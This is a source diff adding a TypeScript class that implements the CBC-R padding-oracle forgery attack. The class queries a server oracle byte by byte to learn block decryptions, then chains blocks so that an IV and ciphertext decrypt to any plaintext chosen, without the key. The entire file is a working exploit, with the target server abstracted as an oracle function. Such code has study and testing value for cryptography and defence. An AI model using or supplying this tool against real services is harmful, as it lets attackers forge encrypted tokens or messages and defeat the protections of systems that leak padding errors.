@@ -1,0 +1,107 @@
+import { randomBytes } from 'node:crypto';
+
+/** Everything that an attacker sees of a server's answer to a ciphertext. */
+export type Oracle = (iv: Buffer, ciphertext: Buffer) => string;
+
+const BLOCK = 16;
+
+class OutOfQueries extends Error {}
+
+/**
+ * Forges a CBC ciphertext of any plaintext without the key (CBC-R, Rizzo and Duong 2010): a server that answers bad padding
+ * otherwise than bad contents tells, byte by byte, what a block decrypts to, and the block before it is chosen freely.
+ *
+ * It knows nothing of the server's words: whatever differs from what most questions are answered with is news to it.
+ */
+export class CbcForger {
+  queries = 0;
+  /** Bytes of plaintext it has learnt; without any there is no progress. */
+  learnt = 0;
+  readonly answers = new Set<string>();
+  private usual = '';
+
+  constructor(
+    private readonly oracle: Oracle,
+    private readonly maxQueries: number,
+  ) {}
+
+  /** `undefined` when the queries are used up. */
+  forge(plaintext: Buffer): { iv: Buffer; ciphertext: Buffer } | undefined {
+    try {
+      this.usual = this.ask(randomBytes(BLOCK), randomBytes(BLOCK));
+      return this.chain(padded(plaintext));
+    } catch (error) {
+      if (error instanceof OutOfQueries) return undefined;
+      throw error;
+    }
+  }
+
+  /** From the last block to the first: what stands before a block turns it into the plaintext that is wanted. */
+  private chain(plaintext: Buffer): { iv: Buffer; ciphertext: Buffer } {
+    let before = randomBytes(BLOCK);
+    const blocks = [before];
+    for (let end = plaintext.length; end > 0; end -= BLOCK) {
+      before = xor(this.decrypted(before), plaintext.subarray(end - BLOCK, end));
+      blocks.unshift(before);
+    }
+    const [iv, ...rest] = blocks;
+    return { iv: iv!, ciphertext: Buffer.concat(rest) };
+  }
+
+  /** What the server's key makes of a block. Where no byte shows, the luck of the start is tried again. */
+  private decrypted(block: Buffer): Buffer {
+    for (;;) {
+      const known = Buffer.alloc(BLOCK);
+      if (this.learn(block, known)) return known;
+    }
+  }
+
+  private learn(block: Buffer, known: Buffer): boolean {
+    for (let at = BLOCK - 1; at >= 0; at--) {
+      const padding = BLOCK - at;
+      const iv = randomBytes(BLOCK);
+      for (let i = at + 1; i < BLOCK; i++) iv[i] = known[i]! ^ padding;
+      const guess = this.guess(iv, at, block);
+      if (guess === undefined) return false;
+      known[at] = guess ^ padding;
+      this.learnt++;
+    }
+    return true;
+  }
+
+  private guess(iv: Buffer, at: number, block: Buffer): number | undefined {
+    for (let byte = 0; byte < 256; byte++) {
+      iv[at] = byte;
+      if (this.isNews(iv, block) && this.isSure(iv, at, block)) return byte;
+    }
+    return undefined;
+  }
+
+  /** The last byte may also have fitted a longer padding; then it depends on the byte before it. */
+  private isSure(iv: Buffer, at: number, block: Buffer): boolean {
+    if (at < BLOCK - 1) return true;
+    const other = Buffer.from(iv);
+    other[at - 1]! ^= 0x80;
+    return this.isNews(other, block);
+  }
+
+  private isNews(iv: Buffer, block: Buffer): boolean {
+    return this.ask(iv, block) !== this.usual;
+  }
+
+  private ask(iv: Buffer, ciphertext: Buffer): string {
+    if (this.queries++ >= this.maxQueries) throw new OutOfQueries();
+    const answer = this.oracle(iv, ciphertext);
+    this.answers.add(answer);
+    return answer;
+  }
+}
+
+function padded(text: Buffer): Buffer {
+  const missing = BLOCK - (text.length % BLOCK);
+  return Buffer.concat([text, Buffer.alloc(missing, missing)]);
+}
+
+function xor(one: Buffer, other: Buffer): Buffer {
+  return Buffer.from(one.map((byte, i) => byte ^ other[i]!));
+}
